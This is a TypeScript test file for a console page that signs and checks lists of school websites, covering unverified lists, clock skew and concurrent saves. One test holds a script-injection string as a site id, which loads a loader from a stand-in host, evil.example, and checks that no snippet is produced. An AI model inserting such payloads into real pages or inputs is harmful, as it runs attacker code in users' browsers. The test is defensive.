import type { Issuer } from '@clbchat/shared/statement/issuer';
import { signSites, verifySites } from '@clbchat/shared/statement/sites';
import { beforeAll, expect, test } from 'vitest';
import { createSitesPage, type StandingSites } from '../../console/src/model/sites/page.ts';
import type { Sites } from '../../console/src/model/sites/site.ts';
import { issuerBy, makeCentreKeys, type CentreKeys } from '../support/centreKeys.ts';

const NOW_MS = Date.UTC(2026, 10, 26, 17);
const NOW_S = NOW_MS / 1_000;
const DAY_MS = 86_400_000;
const LINDE = { origins: ['https://www.delinde.example'], name: 'De Linde' };
const BERK = { origins: ['https://berk.example'], name: 'De Berk' };
const ELS = { origins: ['https://els.example'], name: 'Els' };

let ours: CentreKeys;
let issuer: Issuer;
beforeAll(async () => {
  ours = await makeCentreKeys();
  issuer = await issuerBy(ours, NOW_MS - 30 * DAY_MS);
});
const nameless = (sites: Sites) =>
  Object.fromEntries(Object.entries(sites).map(([id, { origins }]) => [id, { origins }]));
const signs = (rev: number, sites: Sites, by = issuer) => signSites(by, { rev, sites: nameless(sites), nowMs: NOW_MS });

interface Around {
  /** what the page's own host says: null for nothing */
  readonly stands?: string | null;
  readonly seen?: number;
  readonly hersMs?: number;
}
async function opened(
  says: Pick<StandingSites, 'sites' | 'signed'>,
  { stands = null, seen = 0, hersMs = NOW_MS }: Around,
) {
  const base = { rev: 3, account: 'noor', pins: ours.pins, chat: 'https://chat.example', ...says };
  const verify = (text: string) => verifySites(text, { pins: ours.pins, nowMs: hersMs, skewMsMax: DAY_MS });
  const signed: string[] = [];
  let kept = seen;
  const page = createSitesPage({
    read: async () => base,
    write: async (rev, sites, text) => {
      signed.push(text!);
      return { is: 'written', ...base, rev: rev + 1, sites, signed: text };
    },
    issuer: async () => issuer,
    sign: signSites,
    own: async () => ({ demo: false, chat: 'https://chat.example' }),
    stands: async () => stands,
    verify,
    seen: async () => kept,
    remember: async (_account, rev) => void (kept = Math.max(kept, rev)),
    nowMs: () => hersMs,
  });
  await page.open();
  const lists = () => Promise.all(signed.map(async (text) => Object.keys(Object(await verify(text)).sites as Sites)));
  return { page, lists, kept: () => kept, signing: () => Object(page.state.peek()).signing as string };
}

test.each([
  ['an unproven list', 0, true],
  ['a list under no root of hers', 0, false],
  ['an earlier list', 9, true],
])('[U72] %s of a service that was broken into names no school in a snippet', async (_what, seen, isSigned) => {
  const evil = 'x" data-key="k"></script><script src="https://evil.example/loader.js';
  const signed = isSigned ? await signs(3, { s_1: LINDE }) : 'nothing that verifies';
  const { page } = await opened({ sites: { [evil]: LINDE }, signed }, { seen });
  expect(page.list.peek().map(([id]) => id)).toEqual([evil]);
  expect(page.facts.peek()).toBeNull();
});

test('[U71] a new browser of a coordinator signs no list without the schools because the service says that none stands', async () => {
  for (const stands of [await signs(NOW_S, { s_1: LINDE, s_2: BERK }), null]) {
    const { page, lists } = await opened({ sites: {}, signed: '' }, { stands });
    const outcome = await page.save('s_3', ELS, undefined);
    expect([outcome.is, await lists()]).toEqual([stands === null ? 'unsigned' : 'unproven', []]);
  }
});

test('[U71] an earlier list that a coordinator signed, with a page that was taken away since, is not gone on from without a look', async () => {
  const says = { sites: { s_1: LINDE, s_2: BERK }, signed: await signs(3, { s_1: LINDE, s_2: BERK }) };
  const later = await opened(says, { stands: await signs(NOW_S, { s_1: LINDE }) });
  expect([later.signing(), later.kept()]).toEqual(['unproven', NOW_S]);
  expect([await later.page.save('s_3', ELS, undefined), await later.page.signShown()]).toEqual([
    { is: 'unproven' },
    { is: 'unsigned' },
  ]);
  expect(await later.lists()).toEqual([]);

  // the page's own host is silent, or has none: a press of its own, and what she signed is gone on from
  for (const stands of [null, '']) {
    const silent = await opened(says, { stands });
    expect([silent.signing(), await silent.page.save('s_3', ELS, undefined)]).toEqual(['unsigned', { is: 'unsigned' }]);
    expect([await silent.page.signShown(), silent.kept(), silent.signing()]).toEqual([{ is: 'saved' }, NOW_S, 'here']);
    expect(await silent.page.save('s_3', ELS, undefined)).toEqual({ is: 'saved' });
    expect(await silent.lists()).toEqual([
      ['s_1', 's_2'],
      ['s_1', 's_2', 's_3'],
    ]);
  }
});

test('[U71] what stands at the page’s own host is gone on from in a browser that saw none, and so is nothing at all', async () => {
  const text = await signs(3, { s_1: LINDE });
  const known = await opened({ sites: { s_1: LINDE }, signed: text }, { stands: text });
  expect([known.signing(), await known.page.save('s_3', ELS, undefined)]).toEqual(['here', { is: 'saved' }]);
  const fresh = await opened({ sites: {}, signed: '' }, { stands: '' });
  expect([fresh.signing(), await fresh.page.save('s_3', ELS, undefined)]).toEqual(['here', { is: 'saved' }]);
  // other roots: as if there were none
  const others = await issuerBy(await makeCentreKeys(), NOW_MS);
  const foreign = await opened({ sites: { s_1: LINDE }, signed: text }, { stands: await signs(9, {}, others) });
  expect(foreign.signing()).toBe('unsigned');
  // and where only one of the two says that there is none yet
  const hosts = await opened({ sites: { s_1: LINDE }, signed: '' }, { stands: '' });
  const services = await opened({ sites: {}, signed: '' }, { stands: await signs(9, {}, others) });
  expect([hosts.signing(), services.signing()]).toEqual(['unsigned', 'unsigned']);
});

test('[U71] a clock that is three days behind is not a service that was broken into', async () => {
  const hersMs = NOW_MS - 3 * DAY_MS;
  const [says, earlier] = [
    await signs(NOW_S, { s_1: LINDE }),
    await signSites(issuer, { rev: 3, sites: nameless({ s_1: LINDE }), nowMs: hersMs }),
  ];
  for (const [signed, stands] of [
    [says, null],
    [earlier, says],
  ] as const) {
    const { page, signing, lists } = await opened({ sites: { s_1: LINDE }, signed }, { stands, seen: 2, hersMs });
    expect([signing(), page.facts.peek()]).toEqual(['clock', null]);
    expect([await page.save('s_3', ELS, undefined), await lists()]).toEqual([{ is: 'refused', why: 'clock' }, []]);
  }
});

test.each([
  ['the door or the hours', 'saved'],
  ['a school, which a colleague signed', 'changed'],
  ['a school, which nobody signed', 'changed'],
] as const)('[U38 U40 U71] she signs what she looked at while somebody saves %s: %s', async (what, is) => {
  const sites: Sites = { s_1: LINDE, s_2: BERK };
  const others: Sites = { ...sites, s_3: ELS };
  const account = { account: 'noor', pins: ours.pins, chat: 'https://chat.example' };
  let says: StandingSites = { rev: 3, ...account, sites, signed: await signs(3, sites) };
  const signed: Sites[] = [];
  const page = createSitesPage({
    read: async () => says,
    write: async (rev, next, text) => {
      if (rev !== says.rev) return { is: 'stale', now: says, by: 'Lien' };
      signed.push(next);
      says = { ...says, rev: rev + 1, sites: next, signed: text };
      return { is: 'written', ...says };
    },
    issuer: async () => issuer,
    sign: signSites,
    own: async () => ({ demo: false, chat: 'https://chat.example' }),
    stands: async () => null,
    verify: (text) => verifySites(text, { pins: ours.pins, nowMs: NOW_MS, skewMsMax: DAY_MS }),
    seen: async () => 0,
    remember: async () => undefined,
    nowMs: () => NOW_MS,
  });
  await page.open();
  expect(Object(page.state.peek()).signing).toBe('unsigned');
  says =
    what === 'the door or the hours'
      ? { ...says, rev: 4 }
      : { ...says, rev: 4, sites: others, ...(what.includes('colleague') && { signed: await signs(4, others) }) };
  expect(await page.signShown()).toEqual({ is });
  expect(signed).toEqual(is === 'saved' ? [sites] : []);
});
